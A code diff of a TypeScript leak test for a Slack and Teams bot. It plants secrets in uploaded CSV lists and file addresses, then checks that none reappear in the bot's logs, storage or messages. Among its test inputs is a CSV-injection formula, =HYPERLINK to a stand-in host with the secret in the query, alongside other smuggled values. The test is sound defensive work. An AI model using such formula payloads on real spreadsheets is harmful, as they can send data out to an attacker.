@@ -1,131 +1,97 @@
-import { BOT_TOKEN, SIGNING_SECRET } from "../../support/servers/slack.ts";
-import { startWhole, type Whole } from "../../support/servers/whole.ts";
-import { createRandom, pick } from "../random.ts";
-import { count, type Figures, type Outcome } from "../scenario.ts";
-import { answer, SHAPES, startInSlack } from "./answers.ts";
-import { LISTS } from "./file-cells.ts";
-import { fileDeeds } from "./file-deeds.ts";
-import { HOST_WAYS, listenAsFileHost } from "./file-host.ts";
-import { keeping } from "./kept.ts";
-import { madeUp, type Secrets } from "./planted-secrets.ts";
+import { setTimeout as sleep } from "node:timers/promises";
+import { must } from "../../support/must.ts";
+import type { TestPerson } from "../../support/servers/slack.ts";
+import { startWhole } from "../../support/servers/whole.ts";
+import { HOUR, SECOND } from "../../support/world/times.ts";
+import type { Outcome } from "../scenario.ts";
+import { begin, settle } from "../storm/setup.ts";
+import { shownBy } from "./answers.ts";
+import { planting } from "./planted-secrets.ts";
 
-const STEPS = ["/files.getUploadURLExternal", "/upload", "/files.completeUploadExternal"];
-const PEOPLE = "email\np@lumen.example";
+const FIELD = "Or a CSV file";
+const PERSON = "p@lumen.example";
 
-/** All that the bot has sent or shown; what people gave is there as well, and is left out. */
-function shownBy({ slack, teams }: Whole): unknown {
-  const { modals, homes, messages } = slack.state();
-  const { dialogs, messages: inTeams } = teams.state();
-  return [
-    ...[modals, homes, messages, dialogs],
-    inTeams.filter(({ author }) => author === null),
-    slack.calls().map(({ args }) => args),
-    teams.calls().map(({ path, body }) => [path, body]),
-  ];
+/** Where in a list that somebody gives a secret can stand: its name, and what is in it. */
+const LISTS: Record<string, (secret: string) => readonly [name: string, text: string]> = {
+  "the file's name": (secret) => [`${secret.replaceAll("/", "_")}.csv`, `email\n${PERSON}`],
+  "a heading": (secret) => ["list.csv", `email;${secret}\n${PERSON};x`],
+  "the heading of the addresses": (secret) => ["list.csv", `"e-mail [${secret}]"\n${PERSON}`],
+  "a cell that nobody reads": (secret) => ["list.csv", `email;note\n${PERSON};${secret}`],
+  "a cell for an address": (secret) => ["list.csv", `email\n${PERSON}\n${secret}`],
+  "a name before an address": (secret) => ["list.csv", `email\n"${secret} <${PERSON}>"`],
+  "an address": (secret) => ["list.csv", `email\n${PERSON}\n${secret}@lumen.example`],
+  "a formula": (secret) => ["list.csv", `email\n${PERSON}\n"=HYPERLINK(""https://x.example/?k=${secret}"")"`],
+  "a long cell": (secret) => ["list.csv", `email\n${PERSON}\n${"word ".repeat(120)}${secret}`],
+  "no CSV": (secret) => ["list.csv", `PK\u0003\u0004\u0000${secret}`],
+};
+
+async function until(is: () => boolean): Promise<void> {
+  for (const end = Date.now() + 10 * SECOND; !is(); await sleep(5))
+    if (Date.now() > end) throw new Error(`in vain: ${is}`);
 }
 
-/**
- * People give lists and get files while secrets stand in the lists and their names, in the addresses of files, and in
- * whatever is answered about them. Looks for them, and for each address that works without a token, in everything that is
- * kept, logged, shown or exported once the files are where they go.
- */
+/** People give lists with secrets in them, and get the Record into a OneDrive whose address alone lets them write there. */
 export async function secretsInFiles(seed: number, rounds: number): Promise<Outcome> {
-  const random = createRandom(seed);
-  const secrets: Secrets = {
-    ...madeUp(random),
-    "the bot token": BOT_TOKEN,
-    "the signing secret": SIGNING_SECRET,
-  };
-  const { path, log, lines, found: look, remove } = keeping();
-  const host = await listenAsFileHost();
+  const { path, log, plant, keptForAWhile, found, remove } = planting("files", seed);
   const world = await startWhole({
     ...{ mode: "guided", platforms: ["slack", "teams"], skips: true, log },
     env: () => ({ DATABASE_PATH: path }),
   });
-  const { ends, readable, ...deeds } = fileDeeds(world);
-  const struck = new Set<string>();
-  const figures: Figures = {};
-  const seen: string[] = [];
-  const uploads: string[] = [];
-  let round = 0;
+  const [ana, chloe] = [world.as("ana"), world.as("chloe")];
+  const [alsoAna, alsoChloe] = [world.inTeams("ana"), world.inTeams("chloe")];
+  const seen: unknown[] = [];
 
-  /** One of these with a secret of one kind in it. */
-  function planted<T>(where: string, among: Readonly<Record<string, T>> | readonly string[]): [T, string] {
-    const names = Array.isArray(among) ? among : Object.keys(among);
-    const [how = "", kind = ""] = [pick(random, names), pick(random, Object.keys(secrets))];
-    struck.add(`${where}, ${how}, ${kind}`);
-    count(figures, "secrets in files");
-    return [(Array.isArray(among) ? how : among[how as keyof typeof among]) as T, secrets[kind] ?? ""];
+  async function sent(person: Pick<TestPerson, "submit" | "modal" | "close">): Promise<void> {
+    for (let times = 0; times < 2 && person.modal() !== null; times += 1) {
+      seen.push(await person.submit().catch(() => null), person.modal());
+      await world.settle();
+    }
+    for (let deep = 0; deep < 3; deep += 1) await person.close();
   }
-  const address = (where: string): string => {
-    const [how, secret] = planted<string>(where, HOST_WAYS);
-    return host.address(how, secret);
-  };
-  const list = (where: string) => {
-    const [make, secret] = planted(where, LISTS);
-    return make(secret, `p${round}@lumen.example`);
-  };
-  const quoted = (where: string) => {
-    const [make, secret] = planted(where, SHAPES);
-    return make(secret);
-  };
-  const theirs = (file: object) =>
-    answer(200, { ok: true, file: { user: world.as("chloe").id, size: 9, ...file } });
 
-  const ways: readonly (() => Promise<unknown>)[] = [
-    () => deeds.listInSlack(list("a list in Slack")),
-    () => deeds.listInTeams(list("a list in Teams")),
-    () => deeds.listInSlack(["list.csv", PEOPLE], quoted("what Slack says of a file")),
-    () => deeds.listInSlack(["list.csv", PEOPLE], theirs({ url_private: address("Slack's host, read") })),
-    () => deeds.fileAt(address("Teams' host, read")),
-    () => {
-      const [make, secret] = planted("an address that is not Microsoft's", { foreign });
-      return deeds.fileAt(make(secret));
-    },
-    () => {
-      const step = pick(random, STEPS) ?? "";
-      return deeds.recordInSlack(step, quoted(`Slack, ${step}`));
-    },
-    () => {
-      const upload_url = address("Slack's host, written");
-      return deeds.recordInSlack(STEPS[0] ?? "", answer(200, { ok: true, upload_url, file_id: "F1" }));
-    },
-    () => deeds.recordTo(address("Teams' host, written")),
-    async () => uploads.push(await deeds.recordInTeams(quoted("OneDrive"))),
-  ];
+  async function round(n: number): Promise<void> {
+    const list = must(plant(n % 2 === 0 ? "slack" : "teams", LISTS));
+    if (n % 2 === 0) {
+      await chloe.command("invite", "#mistral");
+      await until(() => chloe.modal()?.includes(FIELD) === true);
+      chloe.fill({ "E-mail addresses": "", [FIELD]: [...list] });
+      await sent(chloe);
+    } else {
+      await alsoChloe.attach(...list);
+      await world.settle();
+      seen.push(alsoChloe.dm().at(-1));
+      if (alsoChloe.buttons("dm").includes("Go on to the form")) {
+        await alsoChloe.press("Go on to the form", { in: "dm" });
+        await sent(alsoChloe);
+      }
+    }
+    await world.later(65 * SECOND);
+  }
+
+  async function record(): Promise<void> {
+    await alsoAna.command("record");
+    await until(() => alsoAna.buttons("dm").includes("Send it as a file"));
+    await alsoAna.press("Send it as a file", { in: "dm" });
+    await world.later(5 * SECOND);
+    world.teams.faults.add({ path: "/upload", fault: { kind: "answer", status: 500, body: {} } });
+    await alsoAna.answerFile(true);
+    for (const { upload } of world.teams.state().drive ?? [])
+      keptForAWhile("where a file was put", upload ?? "?");
+    await world.later(65 * SECOND);
+  }
 
   try {
-    await startInSlack(world);
-    await deeds.anaInBoth();
-    for (; round < rounds; round += 1) {
-      seen.push(String(await ways[round % ways.length]?.()));
-    }
-    for (const { faults } of [world.slack, world.teams]) faults.clear();
-    await ends();
-    const open = {
-      ...numbered("where a file of theirs is", readable()),
-      ...numbered("where a file was put", uploads),
-    };
-    const found = await look(world.bot.store, { ...secrets, ...open }, [seen, shownBy(world)]);
-    return {
-      figures: {
-        "places and kinds in files": struck.size,
-        ...figures,
-        "addresses of files": Object.keys(open).length,
-        "lines of the log": lines.length,
-        "found again": found.length,
-      },
-      violations: [...found, ...host.withToken.map((what) => `a token went along with ${what}`)],
-    };
+    await begin(world, ["slack"], settle(world, { requesters: 2 }), false);
+    await alsoAna.command("settings");
+    await until(() => ana.buttons("dm").includes("Yes, that is me"));
+    await ana.press("Yes, that is me", { in: "dm" });
+    await world.settle();
+    for (let n = 0; n < rounds; n += 1) await round(n);
+    await record();
+    for (let hours = 0; hours < 3; hours += 1) await world.later(HOUR);
+    return await found(world.bot.store, [seen, shownBy(world)]);
   } finally {
     await world.stop();
-    await host.close();
     remove();
   }
 }
-
-const foreign = (secret: string): string =>
-  `https://files.example/list.csv?tempauth=${encodeURIComponent(secret)}`;
-
-const numbered = (what: string, all: readonly string[]): Secrets =>
-  Object.fromEntries(all.map((one, at) => [`${what} (${at})`, one]));
